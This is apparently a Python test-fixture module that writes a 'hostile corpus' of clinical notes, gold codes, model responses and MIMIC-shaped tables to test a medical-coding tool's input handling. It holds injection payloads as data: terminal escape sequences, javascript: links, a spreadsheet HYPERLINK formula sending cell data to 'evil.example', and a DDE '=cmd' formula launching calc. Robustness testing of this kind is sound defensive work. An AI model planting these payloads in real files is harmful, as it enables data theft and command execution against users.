"""A corpus of hostile inputs (our own, written here): the same notes in every input format, plus hostile codes,
queries, decision sheets and MIMIC-shaped tables, for the hostile corpus test.

Every value a reading command could meet is in it: lone surrogates, rich markup (``[/]``, ``[bold]``), terminal
escape sequences, spreadsheet formula cells, U+2028 / U+0085 line separators inside a note, NUL, a 5 MB note, empty
notes, latin-1 bytes, byte-order marks, 5,000-digit ids, ids with quotes, commas and newlines.
"""

from __future__ import annotations

import json
from pathlib import Path

ESC = "\x1b[2J\x1b]0;pwned\x07"  # clear the screen, set the window title
MARKUP = "[/][bold]"
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"x")'
HUGE_ID = "7" * 5000
CHEST = "Crushing chest pain radiating to the left arm, troponin elevated, ST depression: NSTEMI."

#: (id, note text) pairs every table format holds. Ids are strings here; the JSONL corpus also has a numeric id.
NOTES: list[tuple[str, str]] = [
    ("markup[/]", f"{MARKUP} {CHEST} [link=javascript:alert(1)]click[/link]"),
    (f"esc{ESC}", f"{ESC} fever, productive cough, right lower lobe consolidation: pneumonia {ESC}"),
    (HYPERLINK, f"{HYPERLINK} dysuria and frequency, nitrites positive"),
    ("-5", "+1 (555) 0100 @SUM(A1) -chest pain"),
    ('quote"d, id', 'He said "no", then\n"yes"; chest pain'),
    ("new\nline", "Line separators\u2028inside\u0085the note\u2029and a NUL \x00 here; chest pain"),
    ("huge", ("Abdominal pain in the right lower quadrant, rebound tenderness. " * 80_000)[:5_000_000]),
    ("empty", ""),
    ("blank", "   \n\t "),
    ("bidi\u202e", "Text with a right-to-left override \u202e and zero-width\u200b joiners; headache"),
]


def write_corpus(folder: Path) -> dict[str, Path]:
    """Write the notes in every input format (and the other hostile files); returns name -> path."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    folder.mkdir(parents=True, exist_ok=True)
    files: dict[str, Path] = {}

    # JSONL: a BOM, the notes, a lone surrogate in an id and in a text, a 5,000-digit numeric id, a line that is not
    # JSON, a JSON array line, an object with a nested text, and a latin-1 byte.
    lines = [json.dumps({"id": i, "text": t, "code": "I21.4"}) for i, t in NOTES]
    lines += ['{"id": "sur\\ud83d", "text": "lone \\udc80 surrogate; chest pain", "code": "J18.9"}',
              '{"id": ' + HUGE_ID + ', "text": "' + CHEST + '", "code": "I21.4"}',
              '{"id": "notjson", "text": ',
              '["an", "array"]',
              '{"id": "nested", "text": {"deep": [1, 2]}, "code": ["I21.4"]}']
    jsonl = folder / "notes.jsonl"
    jsonl.write_bytes(b"\xef\xbb\xbf" + "\n".join(lines).encode("utf-8") + b"\n" + b'{"id": "latin", "text": "caf\xe9"}\n')
    files["jsonl"] = jsonl

    # CSV: standard quoting with a BOM, a record with more fields than the header, latin-1 in its own file.
    import csv
    import io

    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow(["id", "text", "code"])
    for i, t in NOTES:
        writer.writerow([i, t.replace("\x00", " "), "I21.4"])  # the csv module cannot write NUL
    buf.write("toomany,chest pain, troponin up,I21.4,extra\n")
    csv_path = folder / "notes.csv"
    csv_path.write_text("\ufeff" + buf.getvalue(), encoding="utf-8")
    files["csv"] = csv_path
    latin = folder / "latin1.csv"
    latin.write_bytes(b"id,text,code\nn1,caf\xe9 chest pain,I21.4\n")
    files["latin1_csv"] = latin

    # Parquet: the same notes, a NUL kept, plus a null text and a numeric id column.
    table = pa.table({"id": [i for i, _ in NOTES] + [None], "text": [t for _, t in NOTES] + [None],
                      "code": ["I21.4"] * len(NOTES) + [None]})
    parquet = folder / "notes.parquet"
    pq.write_table(table, parquet)
    files["parquet"] = parquet

    # Text files: hostile names (markup, ESC, formula), NUL, latin-1, BOM, empty.
    txt = folder / "txt"
    txt.mkdir(exist_ok=True)
    (txt / "[bold]markup[i].txt").write_text(f"{MARKUP} {CHEST}", encoding="utf-8")
    (txt / f"esc{ESC}.txt").write_text(f"{ESC} {CHEST}", encoding="utf-8")
    (txt / "=cmd.txt").write_text(HYPERLINK + " " + CHEST, encoding="utf-8")
    (txt / "nul.txt").write_bytes(b"chest\x00pain\x00troponin")
    (txt / "latin1.txt").write_bytes(b"Patient mit Brustschmerz, Troponin erh\xf6ht")
    (txt / "bom.txt").write_bytes(b"\xef\xbb\xbf" + CHEST.encode())
    (txt / "empty.txt").write_bytes(b"")
    (txt / "seps.txt").write_text("chest pain\u2028troponin\u0085elevated", encoding="utf-8")
    files["txt"] = txt

    # Gold codes for eval / reward: hostile ids, one hostile code, a BOM.
    gold = folder / "gold.jsonl"
    gold.write_bytes(b"\xef\xbb\xbf" + "".join(
        json.dumps({"id": i, "code": c}) + "\n" for i, c in
        [("markup[/]", "I21.4"), (f"esc{ESC}", "J18.9"), (HYPERLINK, "N39.0"), ("-5", f"{MARKUP}I10"),
         ("sur\ufffd", "J18.9"), (HUGE_ID, "I21.4")]).encode())
    files["gold"] = gold

    # Responses to score with the reward: hostile ids and responses.
    responses = folder / "responses.jsonl"
    responses.write_text("".join(json.dumps(r) + "\n" for r in [
        {"id": "markup[/]", "response": f"<think>{MARKUP} {CHEST}</think><diagnosis>I21.4</diagnosis>",
         "gold": "I21.4"},
        {"id": f"esc{ESC}", "response": f"<think>{ESC}</think><diagnosis>{ESC}</diagnosis>", "gold": "J18.9"},
        {"id": HYPERLINK, "response": "", "gold": HYPERLINK},
        {"id": "-5", "response": None, "gold": "I10"},
        {"id": "num", "response": 12345, "gold": "I10"},
        {"id": "list", "response": ["<diagnosis>I10</diagnosis>"], "gold": ["I10"]},
    ]), encoding="utf-8")
    files["responses"] = responses

    # Codes to validate: hostile lines in a text file.
    codes = folder / "codes.txt"
    codes.write_text(f"I21.4 {MARKUP} {ESC}\n=1+1 -A00 @x\n{HUGE_ID}\nquote\"d,comma\n", encoding="utf-8")
    files["codes"] = codes
    latin_codes = folder / "codes-latin1.txt"
    latin_codes.write_bytes(b"I21.4\nsur\x80rogate\n")
    files["latin1_codes"] = latin_codes

    # An offline decisions sheet: standard quoting, formula cells, markup, a record with too many fields.
    sheet = folder / "decisions.csv"
    sheet.write_text(
        "case_id,reviewer,decision,code,reason,comment,flagged\n"
        f'"markup[/]",alice,reject,,other,"see [x](javascript:alert(1)) ![p](http://evil.example/p.png) {ESC}",true\n'
        f'"{HYPERLINK.replace(chr(34), chr(34) * 2)}",alice,correct,"{MARKUP}",,,\n'
        "-5,alice,accept,,,=cmd|' /C calc'!A0,\n"
        'quote"d,alice,reject,,other,Patient said "no", see chart\n', encoding="utf-8")
    files["sheet"] = sheet

    # MIMIC-IV-shaped tables for `data prepare`: hostile text and codes.
    mimic = folder / "mimic"
    mimic.mkdir(exist_ok=True)
    (mimic / "discharge.csv").write_text(
        "note_id,subject_id,hadm_id,note_type,note_seq,charttime,storetime,text\n"
        f'1-DS-1,1,100,DS,1,2150-01-01,2150-01-02,"Chief Complaint: {MARKUP} chest pain {ESC}\nHistory of Present '
        f'Illness: {CHEST}"\n'
        '2-DS-1,2,200,DS,1,2150-01-01,2150-01-02,"' + "x" * 10 + '"\n', encoding="utf-8")
    (mimic / "diagnoses_icd.csv").write_text(
        "subject_id,hadm_id,seq_num,icd_code,icd_version\n1,100,1,I214,10\n2,200,1,=1+1,10\n", encoding="utf-8")
    files["mimic_notes"] = mimic / "discharge.csv"
    files["mimic_dx"] = mimic / "diagnoses_icd.csv"
    return files
